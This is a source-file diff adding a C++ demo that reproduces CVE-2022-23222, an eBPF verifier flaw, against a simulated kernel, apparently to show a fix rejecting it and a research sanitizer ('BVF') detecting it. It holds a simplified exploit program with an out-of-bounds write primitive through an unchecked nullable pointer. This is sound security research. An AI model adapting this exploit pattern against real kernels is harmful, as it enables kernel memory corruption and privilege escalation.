@@ -1,0 +1,103 @@
+// Reproduces CVE-2022-23222 (paper Listing 1): the verifier of pre-5.16
+// kernels allowed ALU on nullable map-value pointers, so the null branch of a
+// later check is entered with a non-zero (garbage) pointer.
+//
+// The demo loads the same exploit program against:
+//   1. a fixed kernel             -> the verifier rejects it;
+//   2. the vulnerable kernel      -> it loads, and native execution silently
+//                                    dereferences the bad pointer;
+//   3. the vulnerable kernel with BVF's sanitation -> the dispatch check
+//                                    fires a bpf-asan report (indicator #1).
+
+#include <cstdio>
+
+#include "src/ebpf/builder.h"
+#include "src/runtime/bpf_syscall.h"
+#include "src/sanitizer/asan_funcs.h"
+#include "src/sanitizer/instrument.h"
+
+namespace {
+
+using namespace bpf;
+
+Program ExploitProgram(int map_fd) {
+  // Simplified Listing 1: lookup (guaranteed miss) -> r0 += 8 (the missing
+  // check) -> "null check" -> dereference on the believed-non-null branch.
+  ProgramBuilder b;
+  b.StoreImm(kSizeDw, kR10, -8, 0x5eed);  // key never inserted
+  b.LdMapFd(kR1, map_fd);
+  b.Mov(kR2, kR10);
+  b.Add(kR2, -8);
+  b.Call(kHelperMapLookupElem);
+  b.Add(kR0, 8);                 // ALU on PTR_TO_MAP_VALUE_OR_NULL
+  b.JmpIf(kJmpJeq, kR0, 0, 2);   // at runtime r0 == 8, so "non-null" path taken
+  b.StoreImm(kSizeDw, kR0, 0, 0x41414141);  // out-of-bounds write primitive
+  b.Load(kSizeDw, kR8, kR0, 0);
+  b.RetImm(0);
+  return b.Build();
+}
+
+int CreateMap(Bpf& bpf) {
+  MapDef def;
+  def.type = MapType::kHash;
+  def.key_size = 8;
+  def.value_size = 16;
+  def.max_entries = 8;
+  return bpf.MapCreate(def);
+}
+
+}  // namespace
+
+int main() {
+  printf("=== CVE-2022-23222: ALU on nullable pointers ===\n");
+
+  // 1. Fixed kernel: rejected.
+  {
+    Kernel kernel(KernelVersion::kV5_15, BugConfig::None());
+    Bpf bpf(kernel);
+    const int map_fd = CreateMap(bpf);
+    VerifierResult result;
+    const int err = bpf.ProgLoad(ExploitProgram(map_fd), &result);
+    printf("\n[fixed kernel]  ProgLoad -> %d\n", err);
+    printf("verifier log:\n%s", result.log.c_str());
+  }
+
+  // 2. Vulnerable kernel, no sanitation: loads and runs; the bad access is
+  //    invisible (it lands in the unmapped null page -> an oops at best).
+  {
+    BugConfig bugs;
+    bugs.cve_2022_23222 = true;
+    Kernel kernel(KernelVersion::kV5_15, bugs);
+    Bpf bpf(kernel);
+    const int map_fd = CreateMap(bpf);
+    const int fd = bpf.ProgLoad(ExploitProgram(map_fd));
+    printf("\n[vulnerable kernel, no sanitation]  ProgLoad -> %d (loaded!)\n", fd);
+    bpf.ProgTestRun(fd);
+    printf("reports after native execution:\n");
+    for (const KernelReport& report : kernel.reports().reports()) {
+      printf("  %s | %s\n", report.Signature().c_str(), report.details.c_str());
+    }
+  }
+
+  // 3. Vulnerable kernel with BVF sanitation: indicator #1 fires.
+  {
+    BugConfig bugs;
+    bugs.cve_2022_23222 = true;
+    Kernel kernel(KernelVersion::kV5_15, bugs);
+    Bpf bpf(kernel);
+    BpfAsan::Register(kernel);
+    bvf::Sanitizer sanitizer;
+    bpf.set_instrument(sanitizer.Hook());
+    const int map_fd = CreateMap(bpf);
+    const int fd = bpf.ProgLoad(ExploitProgram(map_fd));
+    printf("\n[vulnerable kernel + BVF sanitation]  ProgLoad -> %d\n", fd);
+    const LoadedProgram* prog = bpf.FindProg(fd);
+    printf("sanitation inflated the program from 12 to %zu insns\n", prog->prog.insns.size());
+    bpf.ProgTestRun(fd);
+    printf("bpf-asan reports (indicator #1):\n");
+    for (const KernelReport& report : kernel.reports().reports()) {
+      printf("  %s | %s\n", report.Signature().c_str(), report.details.c_str());
+    }
+  }
+  return 0;
+}
